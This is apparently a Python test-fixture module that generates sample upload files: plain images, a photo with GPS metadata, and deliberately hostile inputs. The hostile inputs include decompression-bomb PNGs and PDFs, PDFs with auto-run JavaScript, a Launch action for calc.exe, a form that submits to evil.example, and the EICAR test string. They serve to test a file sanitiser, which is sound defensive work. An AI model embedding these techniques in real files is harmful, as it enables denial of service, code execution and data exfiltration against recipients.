"""Files to upload: good ones, broken ones, and such as mean harm."""

import io
import struct
import zlib
from pathlib import Path
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

HEIC = (Path(__file__).parent / "photo.heic").read_bytes()  # 96 x 64, taken in Lage, with a blue corner on orange
GPS = 0x8825
IN_LAGE = {1: "N", 2: (51.0, 59.0, 20.0), 3: "E", 4: (8.0, 47.0, 30.0)}
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# --- Pictures -----------------------------------------------------------------------------------------------


def picture(size: tuple[int, int] = (64, 48), mode: str = "RGB", form: str = "JPEG", **options: Any) -> bytes:
    bands = Image.getmodebands(mode)
    image = Image.new(mode, size, (200, 120, 40, 255)[:bands] if bands > 1 else 0)
    out = io.BytesIO()
    image.save(out, form, **options)
    return out.getvalue()


def photo(size: tuple[int, int] = (64, 48), *, orientation: int = 1) -> bytes:
    """As a phone takes it: with its name, time and place. The upper left quarter is blue."""
    image = Image.new("RGB", size, (200, 120, 40))
    image.paste((20, 60, 200), (0, 0, size[0] // 2, size[1] // 2))
    exif = Image.Exif()
    exif[0x0110], exif[0x0112], exif[0x0132] = "Telefon 9", orientation, "2026:11:16 09:30:00"
    exif[GPS] = IN_LAGE
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=b"Wohnzimmer", quality=95)
    return out.getvalue()


def png_that_claims(width: int, height: int) -> bytes:
    """A few bytes that say they are a huge picture."""
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(bytes(100)))
        + _chunk(b"IEND", b"")
    )


def large_png(width: int = 8000, height: int = 8000) -> bytes:
    """Black, in four colours: 64 million pixels are 256 MB."""
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    pixels = bomb_of(-(-(4 * width + 1) * height // 2**20))
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


def png_with_a_bomb_in_its_text() -> bytes:
    small = picture(form="PNG")
    bomb = _chunk(b"zTXt", b"Comment\0\0" + bomb_of(2000))
    return small[:33] + bomb + small[33:]


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def bomb_of(megabytes: int) -> bytes:
    """So many megabytes of zeros, compressed: about a thousandth of it."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = packer.compress(bytes(2**20)) + packer.flush(zlib.Z_FULL_FLUSH)
    length = megabytes * 2**20
    checksum = struct.pack(">I", (length % 65521) << 16 | 1)  # Adler-32 of zeros
    return b"\x78\xda" + one * megabytes + packer.flush(zlib.Z_FINISH) + checksum


# --- Documents ----------------------------------------------------------------------------------------------


def document(change: Any = lambda _pdf: None, *, words: str = "Police", **options: Any) -> bytes:
    """A page with words on it; `change` does something to the PDF before it is saved."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(595, 842))
    page.obj.Contents = Stream(pdf, f"BT /F1 24 Tf 72 700 Td ({words}) Tj ET".encode())
    page.obj.Resources = Dictionary(
        Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    )
    change(pdf)
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, **options)
    return out.getvalue()


def javascript(code: str = "app.alert(1)") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def open_with_program(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = javascript()


def name_programs(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("start"), javascript()])))


def start_a_program(pdf: pikepdf.Pdf) -> None:
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(S=Name.Launch, F=String("calc.exe"))
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def run_when_shown(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=javascript())


def send_away(pdf: pikepdf.Pdf) -> None:
    button = Dictionary(
        T=String("ok"),
        FT=Name.Btn,
        A=Dictionary(
            S=Name.Named, N=Name.NextPage, Next=Array([Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))])
        ),
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(button)]), XFA=Stream(pdf, b"<xdp/>"))


def show_a_film(pdf: pikepdf.Pdf) -> None:
    film = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
    note = Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=Array([0, 0, 9, 9]), Contents=String("Hinweis"))
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(film), pdf.make_indirect(note)])


PROGRAMS = [open_with_program, name_programs, start_a_program, run_when_shown, send_away, show_a_film]


def attach(name: str) -> Any:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, b"<xml/>", filename=name)

    return change


def attach_to_the_page(pdf: pikepdf.Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]))
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])


def needs_adobe(pdf: pikepdf.Pdf) -> None:
    pdf.Root.NeedsRendering = True
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(pdf, b"<xdp/>"))


def sign(pdf: pikepdf.Pdf) -> None:
    signature = Dictionary(Type=Name.Sig, ByteRange=Array([0, 10, 20, 30]), Contents=String("signed"))
    field = Dictionary(T=String("Unterschrift"), FT=Name.Sig, V=pdf.make_indirect(signature))
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]), SigFlags=3)


def sign_a_program(pdf: pikepdf.Pdf) -> None:
    sign(pdf)
    open_with_program(pdf)


def say_who_wrote_it(pdf: pikepdf.Pdf) -> None:
    pdf.docinfo["/Author"] = "Anna Schröder"
    pdf.Root.Metadata = Stream(pdf, b"<x:xmpmeta>Anna Schroeder</x:xmpmeta>", {"/Type": Name.Metadata})


def show_a_photo(pdf: pikepdf.Pdf) -> None:
    content = photo()
    about = {"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 64, "/Height": 48, "/BitsPerComponent": 8}
    image = Stream(pdf, content, about | {"/ColorSpace": Name.DeviceRGB, "/Filter": Name.DCTDecode})
    pdf.pages[0].obj.Resources.XObject = Dictionary(AA=pdf.make_indirect(image))
    pdf.pages[0].obj.Contents = Stream(pdf, b"q 300 0 0 200 72 500 cm /AA Do Q")


def hold_a_virus(pdf: pikepdf.Pdf) -> None:
    """Among what draws the page, as a remark."""
    pdf.pages[0].obj.Contents = Stream(pdf, b"% " + EICAR + b"\n")


def pdf_with_a_bomb() -> bytes:
    """Where its parts are is told by a stream that unpacks to gigabytes."""
    bomb = bomb_of(4000)
    start = (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
    )
    stream = b"3 0 obj\n<</Type/XRef/W[1 4 2]/Size 600000000/Root 1 0 R/Filter/FlateDecode/Length %d>>\nstream\n" % len(
        bomb
    )
    return start + stream + bomb + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(start)
